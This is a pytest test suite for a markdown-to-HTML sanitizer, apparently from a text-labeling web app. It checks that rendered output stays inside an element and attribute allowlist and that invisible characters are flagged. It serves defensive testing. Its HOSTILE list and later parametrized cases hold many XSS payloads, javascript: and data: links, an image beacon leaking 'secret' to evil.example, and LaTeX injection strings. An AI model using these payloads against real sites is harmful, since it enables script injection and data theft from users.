"""Markdown of models and strangers, rendered."""

import json
import re
from html.parser import HTMLParser
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from labeling.web.markdown import ATTRIBUTES, MAX_MARKDOWN, TAGS, render_markdown
from labeling.web.markdown.allowlist import IMAGE_ADDRESS, MATHML
from labeling.web.markdown.formulas import MAX_FORMULA, MAX_FORMULAS, mathml

CORPUS = Path(__file__).parents[2] / "browser" / "hostile" / "completions.jsonl"
IMAGE = "3f2a" * 8

HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "</div></div><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><use href='data:image/svg+xml,<svg onload=alert(1)>'/></svg>",
    "<math><mtext></mtext><mglyph><style><img src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=//evil.example></object><embed src=//evil.example>",
    "<form action=//evil.example><input name=q><button>go</button></form>",
    "<a href='javascript:alert(1)'>x</a>",
    "<!-- --!><script>alert(1)</script> -->",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?><script>alert(1)</script>",
    "<style>@import '//evil.example/x.css';</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example>",
    "<details open ontoggle=alert(1)>",
    "<p style='background:url(//evil.example)'>x</p>",
    "<template><script>alert(1)</script></template>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](  javascript:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](file:///etc/passwd)",
    "[x](//evil.example)",
    "[x](/admin/logout/)",
    "<javascript:alert(1)>",
    "[x][1]\n\n[1]: javascript:alert(1)",
    '[x](http://a.example/" onmouseover="alert(1))',
    "[x](http://a.example 'q\" onmouseover=\"alert(1)')",
    "![x](http://evil.example/leak.png?q=secret)",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    '![x" onerror="alert(1)](x)',
    "![x][i]\n\n[i]: http://evil.example/leak.png",
    "[![x](http://evil.example/a.png)](http://evil.example)",
    '```"><script>alert(1)</script>\nx\n```',
    "```html onload=alert(1)\n<script>alert(1)</script>\n```",
    "`<script>alert(1)</script>`",
    "| a |\n|---|\n| <table><tr><td><script>alert(1)</script> |",
    "| <table> | b |\n|---|---|\n| </td></tr></table><img src=x onerror=alert(1)> | x |",
    "> <script>\n> alert(1)\n> </script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "{{ settings.SECRET_KEY }}{% debug %}${7*7}",
    "\U000f00013C\U000f0002<b>",
    "# <a name=x id=location>x</a>",
    "<x-foo is=a hx-get=/x hx-trigger=load>x</x-foo>",
]


class Elements(HTMLParser):
    """What a browser would find: every element with its attributes, and whether each is closed in its place."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []
        self.open: list[str] = []
        self.text: list[str] = []
        self.feed(html)
        self.close()
        assert self.open == []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        assert len(attrs) == len(dict(attrs))
        self.found.append((tag, dict(attrs)))
        if tag not in ("br", "hr", "img"):
            self.open.append(tag)

    def handle_endtag(self, tag: str) -> None:
        assert self.open.pop() == tag

    def handle_data(self, data: str) -> None:
        self.text.append(data)

    def handle_comment(self, data: str) -> None:
        raise AssertionError("a comment")

    def handle_decl(self, decl: str) -> None:
        raise AssertionError("a declaration")


# What the renderer adds of its own after the allowlist has spoken.
OURS = {
    ("div", "prose", "", "auto"), ("span", "code-tools"), ("button", "button", "code-wrap", "false"), ("button", "button", "code-copy"),
}  # fmt: skip


def check(html: str) -> str:
    """Only elements and attributes of the allowlist, links that lead by http or mail, images of this site. The words."""
    elements = Elements(html)
    for tag, attributes in elements.found:
        if (tag, *attributes.values()) in OURS or attributes.get("class") == "invisible-char":
            continue
        assert tag in TAGS
        assert set(attributes) <= ATTRIBUTES.get(tag, set()) | ({"rel"} if tag == "a" else set())
        if "href" in attributes:
            assert re.match(r"(https?://|mailto:)", attributes["href"], re.IGNORECASE)
        if tag == "a":
            assert attributes["rel"] == "noopener noreferrer nofollow"
            assert attributes["target"] == "_blank"
        if tag == "img":
            assert IMAGE_ADDRESS.fullmatch(attributes["src"])
            elements.text.append(attributes["alt"])
    return "".join(elements.text)


@pytest.mark.parametrize("payload", HOSTILE)
def test_hostile_text_makes_no_element_or_attribute_outside_the_allowlist(payload):
    check(render_markdown(payload))


@pytest.mark.parametrize("row", map(json.loads, CORPUS.read_text().splitlines()), ids=lambda row: row["name"])
def test_the_hostile_corpus_stays_inside_the_allowlist_and_keeps_its_marker(row):
    said = check(render_markdown(row["content"]))
    assert row["marker"] in said


SIGNS = st.sampled_from(
    [
        *"*_`[]()<>&!~|#$\\{}^-+=:\"' \n\t", "\n\n", "> ", "- ", "1. ", "```", "```html\n", "$$", r"\(", r"\)", r"\[", r"\]", "![", "](",
        "](javascript:alert(1))", "](http://a.example)", f"](image:{IMAGE}-4x3)", "[a]: b\n", "<script>", "</script>", "<!--", "-->",
        "<math>", "<mtext>", "<style>", "<svg>", "<![CDATA[", "onerror=", "&lt;", "&#x202e;", "&#x10e000;", "\u202e", "\u200b", "\x00",
        "\x7f", "\ud800", "\U0010e000", "a", "word", "שלום", "|---|", "\n|", r"\frac", r"\text{", r"\begin{matrix}", r"\href{", r"\unicode{x3c}",
        "&#x3c;", "e\u0301\u0301\u0301\u0301\u0301\u0301\u0301", "    ",
    ]
)  # fmt: skip


@settings(max_examples=400, deadline=None)
@given(st.lists(SIGNS, max_size=60).map("".join) | st.text(max_size=120))
def test_any_soup_of_signs_stays_inside_the_allowlist(text):
    check(render_markdown(text))


@settings(max_examples=300, deadline=None)
@given(st.lists(SIGNS, max_size=40).map("".join))
def test_any_formula_stays_inside_the_allowlist(text):
    check(render_markdown(f"${text}$"))
    check(render_markdown(f"$$\n{text}\n$$"))


@settings(max_examples=200, deadline=None)
@given(
    st.lists(
        st.sampled_from(["alpha", "*", "_", "`", "[x]", "(y)", "> ", "- ", "\n", "\n\n", "$", "| ", "#", "    "]),
        max_size=80,
    )
)
def test_no_word_is_ever_lost(parts):
    said = check(render_markdown("".join(parts)))
    assert said.count("alpha") >= parts.count("alpha")


@pytest.mark.parametrize("payload", ["<b>bold</b>", "<script>alert(1)</script>", "a < b && c > d", "<!-- note -->"])
def test_markup_in_a_text_is_shown_as_it_was_written(payload):
    assert check(render_markdown(payload)).strip() == payload


def test_an_image_is_its_alt_text_and_address():
    html = render_markdown("![a cat](http://evil.example/cat.png?q=1)")
    assert "[image: a cat] http://evil.example/cat.png?q=1" in html
    assert "<img" not in html


def test_a_link_shows_where_it_leads():
    html = render_markdown("[your bank](http://evil.example/login)")
    assert '<a href="http://evil.example/login"' in html
    assert "(http://evil.example/login)" in html


def test_an_address_that_is_its_own_text_is_shown_once():
    assert str(render_markdown("<https://a.example>")).count("https://a.example") == 2  # text and href


def test_a_refused_link_stays_visible_as_text():
    html = render_markdown("[click](javascript:alert(1))")
    assert "(javascript:alert(1))" in html
    assert "<a " not in html


def test_the_title_of_a_link_is_shown_too():
    assert "(http://a.example “and this”)" in render_markdown('[x](http://a.example "and this")')


def test_definitions_that_no_link_uses_are_shown():
    html = render_markdown("[//]: # (a hidden note)\n\n[used]: http://a.example\n\n[used]")
    assert '<div class="definitions">[//]: # (a hidden note)</div>' in html
    assert "[used]:" not in html


@pytest.mark.parametrize(
    ("char", "short", "name"),
    [
        ("\u202e", "RLO", "U+202E RIGHT-TO-LEFT OVERRIDE"),
        ("\u200b", "ZWSP", "U+200B ZERO WIDTH SPACE"),
        ("\u2066", "LRI", "U+2066 LEFT-TO-RIGHT ISOLATE"),
        ("\x07", "BEL", "U+0007 BELL"),
        ("\x00", "NUL", "U+0000 NULL"),
        ("\ufeff", "BOM", "U+FEFF ZERO WIDTH NO-BREAK SPACE"),
        ("\u00ad", "SHY", "U+00AD SOFT HYPHEN"),
        ("\x1b", "ESC", "U+001B ESCAPE"),
        ("\U000e0041", "TAG", "U+E0041 TAG LATIN CAPITAL LETTER A, spelling: A"),
        ("\ud800", "U+D800", "U+D800 HALF OF A SURROGATE PAIR"),
        ("\U0010e000", "U+10E000", "U+10E000 PRIVATE USE"),
    ],
)
def test_characters_that_hide_or_turn_text_are_named(char, short, name):
    html = render_markdown(f"pay{char}pal")
    assert f'pay<span class="invisible-char" title="{name}">{short}</span>pal' in html


@pytest.mark.parametrize(
    "entity", ["&#x202e;", "&#8238;", "&rlm;", "&ZeroWidthSpace;", "&shy;", "&#xFEFF;", "&#x10e000;"]
)
def test_entities_of_such_characters_are_named_too(entity):
    assert "invisible-char" in render_markdown(f"pay{entity}pal")
    assert "invisible-char" in render_markdown(f'[x](http://a.example "{entity}")')
    assert f"pay{entity.replace('&', '&amp;')}pal" in render_markdown(f"`pay{entity}pal`")


def test_a_run_of_them_is_one_mark():
    html = render_markdown("a" + "\u200b" * 500 + "b")
    assert html.count("invisible-char") == 1
    assert "ZWSP × 500" in html


def test_text_hidden_in_tag_characters_is_spelled_out():
    hidden = "".join(chr(0xE0000 + ord(char)) for char in "ignore all")
    assert "spelling: ignore all" in render_markdown(f"hello{hidden}")


def test_past_two_thousand_they_are_signs_without_a_name():
    html = str(render_markdown("a\u200b" * 3000))
    assert html.count("invisible-char") == 2000
    assert html.count("\ufffd") == 1000


def test_a_pile_of_marks_on_one_letter_is_counted_instead():
    html = render_markdown("Z" + "\u0301" * 30)
    assert "25 more marks on one letter" in html
    assert "invisible-char" not in render_markdown("a\u0301\u0302 שָׁלוֹם ก็ ที่")


def test_each_block_runs_in_its_own_direction():
    html = render_markdown("# שלום\n\nhello\n\n- مرحبا\n\n> x\n\n| a |\n|---|\n| b |")
    for tag in ("h1", "p", "ul", "li", "blockquote", "th", "td"):
        assert f'<{tag} dir="auto"' in html


def test_marks_are_shown_in_code_and_links_too():
    html = render_markdown("```python\nx = 1  # \u202e\n```\n\n[a\u200bb](http://a.example)")
    assert html.count("invisible-char") == 2


@pytest.mark.parametrize("text", ["👩‍👩‍👧", "می‌خواهم", "क्‍ष", "naïve — “quoted”", "日本語", "🏳️‍🌈"])
def test_ordinary_scripts_and_emoji_carry_no_marks(text):
    assert "invisible-char" not in render_markdown(text)


@pytest.mark.parametrize("language", ["java", "C#", "cs", "TypeScript"])
def test_languages_whose_lexers_are_slow_are_coloured_by_another(language):
    assert '<span class="k' in render_markdown(f"```{language}\npublic class A {{}}\n```")


def test_code_is_highlighted_by_class():
    html = render_markdown("```python\ndef f():\n    return 1\n```")
    assert '<span class="k">def</span>' in html
    assert "style=" not in html


def test_code_of_an_unknown_language_is_plain():
    html = render_markdown("```nosuch\na < b\n```")
    assert "<code>a &lt; b\n</code></pre>" in html
    assert '<span class="code-language">nosuch</span>' in html


@pytest.mark.parametrize("code", ["x = " + "$" * 501, "x = 1\n" * 2_500])
def test_code_that_would_take_a_lexer_long_is_plain(code):
    html = render_markdown(f"```python\n{code}\n```")
    assert 'class="n"' not in html
    assert code.strip() in check(html)


def test_a_code_block_says_its_language_scrolls_by_keyboard_and_can_be_copied():
    html = render_markdown("```python title=x.py\nx = 1\n```")
    assert '<span class="code-language">python title=x.py</span>' in html
    assert '<pre dir="ltr" tabindex="0" role="group" aria-label="Code, python">' in html
    assert '<button type="button" class="code-copy">Copy</button>' in html


def test_a_text_cannot_make_the_buttons_of_a_code_block():
    html = render_markdown("&#x10e000; \U0010e000 &#x10e001;\n\n```\nx\n```")
    assert html.count("code-copy") == 1


def test_tables_and_strikethrough_are_rendered():
    html = render_markdown("| a | b |\n|---|---|\n| 1 | ~~2~~ |")
    assert '<td dir="auto">1</td>' in html and "<s>2</s>" in html


def test_alignment_in_a_table_is_a_class():
    html = render_markdown("| a | b |\n|:-:|--:|\n| 1 | 2 |")
    assert '<td dir="auto" class="align-center">1</td>' in html
    assert '<td dir="auto" class="align-right">2</td>' in html
    assert "style=" not in html


# --- formulas -----------------------------------------------------------------------------------
@pytest.mark.parametrize(
    ("text", "display"),
    [
        ("$x^2$", "inline"),
        (r"\(x^2\)", "inline"),
        ("$$x^2$$", "block"),
        (r"\[x^2\]", "block"),
        ("$$\nx^2\n$$", "block"),
    ],
)
def test_the_four_ways_to_write_a_formula(text, display):
    html = str(render_markdown(text))
    assert f'<math display="{display}"' in html
    assert "<msup><mi>x</mi><mn>2</mn></msup>" in html


@pytest.mark.parametrize(
    "text",
    [
        "It costs $5 and $10.", "from $5–$10", "US$5 or CA$6 or A$7", "$20 in cash (US$)", "$1,000 to $2,000 a year, so $3", "set $HOME and $PATH",
        "$HOME/bin:$PATH", "${a}${b}", "$ x $", "a $ b $ c", r"\$x\$", "`$x$`", "$", "$$", "$$$$", r"\(\)", "```\n$x$\n```", "    $x$",
    ],
)  # fmt: skip
def test_money_and_shell_variables_are_no_formulas(text):
    html = render_markdown(text)
    assert "<math" not in html and "formula" not in html


@pytest.mark.parametrize(
    "text",
    ["$5x + 3 = 7$", "$5$", "a ($x$), b", "$x$-axis", "$2ab$", "costs $5, and $x = 5$ holds", r"$3 \text{ apples}$"],
)
def test_formulas_that_look_a_little_like_money_are_formulas(text):
    assert str(render_markdown(text)).count("<math") == 1


def test_signs_inside_a_formula_are_no_markdown():
    html = render_markdown("$a_1 * b_1 * c_1$ and\n\n$$\na\n=\n- b\n+ c\n$$")
    assert "<em>" not in html and "<li" not in html and "<h1" not in html


def test_a_formula_in_a_list_and_in_a_quote():
    html = render_markdown("- x\n\n  $$\n  y\n  $$\n\n> \\[\n> z\n> \\]")
    assert html.count('<math display="block"') == 2


@pytest.mark.parametrize(
    "latex", [r"\frac{", r"\begin{matrix} a", "x^2^3", r"\left( x", r"\sqrt[", "}{", "a_", r"\begin{nosuch"]
)
def test_a_formula_that_is_wrong_shows_its_source(latex):
    html = render_markdown(f"before ${latex}$ after")
    assert "before" in html and "after" in html
    assert latex.replace("&", "&amp;") in html


@pytest.mark.parametrize(
    "latex",
    [
        r"\href{javascript:alert(1)}{x}", r"\url{http://evil.example}", r"\includegraphics{http://evil.example/x.png}", r"\class{x}{y}",
        r"\style{background:url(//evil.example)}{x}", r"\htmlData{a=b}{x}", r"\unicode{x3c}", r"\cssId{x}{y}", r"\phantom{hidden}",
        r"\color{white} hidden", r"\textcolor{white}{hidden}", r"\newcommand{\a}{\a\a}\a", r"\def\a{\a\a}\a", r"\rule{99em}{99em}",
        r"\hspace{-99em}x", r"\raise99em x", r"\llap{over}", r"\require{html}", r"\verb|x|", r"\fcolorbox{a}{b}{c}", r"\kern-99em x",
    ],
)  # fmt: skip
def test_commands_that_load_define_hide_or_draw_over_text_show_their_source(latex):
    html = render_markdown(f"${latex}$")
    assert "<math" not in html
    assert "".join(Elements(str(html)).text).strip() == f"${latex}$"


def test_markup_in_a_formula_is_text():
    html = render_markdown(
        r"$\text{<img src=x onerror=alert(1)>}$ $\text{&#x3c;script&#x3e;}$ $\operatorname{</math><script>}$"
    )
    assert not {"img", "script"} & {tag for tag, _ in Elements(str(html)).found}


def test_letters_of_mathematical_alphabets_are_characters():
    html = str(render_markdown(r"$\mathbf{AB}$ $\mathbb{R}$ $\mathcal{L}$ $\mathrm{d}$"))
    assert "𝐀" in html and "ℝ" in html and "ℒ" in html and "<mtext>d</mtext>" in html
    assert "mathvariant" not in html


def test_formulas_are_bounded_in_length_number_and_depth():
    assert "<math" not in render_markdown("$" + "x" * (MAX_FORMULA + 1) + "$")
    many = str(render_markdown("$x$ " * (MAX_FORMULAS + 50)))
    assert many.count("<math") == MAX_FORMULAS
    assert many.count("formula-source") == 50
    assert "nested too deep" in render_markdown("$" + r"\sqrt{" * 60 + "x" + "}" * 60 + "$")
    assert "nested too deep" in render_markdown("$" + r"\sqrt" * 350 + "x$")


@pytest.mark.parametrize(
    "latex",
    [
        r"\frac{a}{b}",
        r"\sum_{i=0}^n i",
        r"\begin{cases} a & b \\ c & d \end{cases}",
        r"\hat{x} \vec{v}",
        r"\sqrt[3]{x}",
    ],
)
def test_mathml_is_made_of_the_presentation_elements_alone(latex):
    assert {tag for tag, _ in Elements(mathml(latex, "block")).found} <= MATHML


# --- images -------------------------------------------------------------------------------------
def test_an_uploaded_image_is_shown_with_its_room_kept_free():
    html = render_markdown(f"![a *red* cat](image:{IMAGE}-640x480)")
    assert (
        f'<img src="/images/{IMAGE}/" alt="a red cat" width="640" height="480" loading="lazy" decoding="async">' in html
    )


@pytest.mark.parametrize(
    "address",
    [
        "image:../../admin", f"image:{IMAGE}", f"image:{IMAGE}-0x5", f"image:{IMAGE}-640x480x1", f'image:{IMAGE}-640x480"onerror="x', f"image:{IMAGE.upper()}-6x4",
        f"image:{IMAGE}-999999x1", f"IMAGE:{IMAGE}-6x4", f"image:{IMAGE}/../../logout-6x4", f"/images/{IMAGE}/", f"image:{IMAGE}-6x4?x=1", "image:",
        f"image://{IMAGE}-6x4", f"http://evil.example/image:{IMAGE}-6x4",
    ],
)  # fmt: skip
def test_any_other_address_of_an_image_stays_text(address):
    html = render_markdown(f"![cat]({address})")
    assert "<img" not in html
    assert "image: cat" in html or "![cat]" in html


@pytest.mark.parametrize(
    "text",
    [
        "x" * 50_000,
        "word " * 30_000,
        "*a " * 12_000,
        "[" * 30_000,
        "$" * 10_000,
        "`" * 30_000 + "a",
        "> " * 3_900 + "x",
        "- " * 3_900 + "x",
        "- item\n" * 5_000,
        "a\n\n" * 30_000,
        "|a" * 2_000 + "|\n" + "|-" * 2_000 + "|\n" + "|b" * 2_000 + "|\n",
        "![" * 3_000,
        "<!--" * 9_000,
        "".join(">" * depth + " x\n\n" for depth in range(80)),
        "".join(" " * 2 * depth + "- x\n" for depth in range(80)),
        "**a " * 120 + "b** " * 120,
    ],
    ids=lambda text: text[:10].encode("unicode_escape").decode(),
)
def test_a_text_that_asks_for_too_much_is_plain_and_whole(text):
    html = str(render_markdown(text))
    said = check(html)
    assert 'class="plain"' in html
    assert said == text


@pytest.mark.parametrize(
    "text",
    [
        "**a" * 1_900,
        "*a " * 3_900,
        "[a](" * 900,
        "[[a](b)" * 600,
        "`a " * 3_900,
        "$a " * 3_900,
        "\\[\n" * 2_900,
        "a|b\n-|-\n" * 1_000,
    ],
)
def test_a_text_just_within_the_bounds_is_rendered(text):
    assert check(render_markdown(text)).count("a") == text.count("a")


def test_a_table_too_large_to_read_is_the_text_it_is():
    wide = "|a" * 500 + "|\n" + "|-" * 500 + "|\n" + "b\n" * 500
    html = render_markdown(wide)
    assert "<table" not in html
    assert check(html).count("b") == 500


def test_nothing_is_lost_where_lists_and_quotes_are_nested_past_the_parser():
    for deep in ("> " * 60 + "marker", "- " * 60 + "marker", "> - " * 40 + "marker"):
        assert "marker" in check(render_markdown(deep))


def test_a_text_beyond_the_limit_is_plain_and_whole():
    text = "# *a* <b>\n" * (MAX_MARKDOWN // 10 + 1)
    html = str(render_markdown(text))
    assert '<div class="plain">' in html
    assert html.count("# *a* &lt;b&gt;") == MAX_MARKDOWN // 10 + 1


def test_nothing_and_none_are_an_empty_block():
    assert render_markdown(None) == render_markdown("") == '<div class="prose" lang="" dir="auto"></div>'
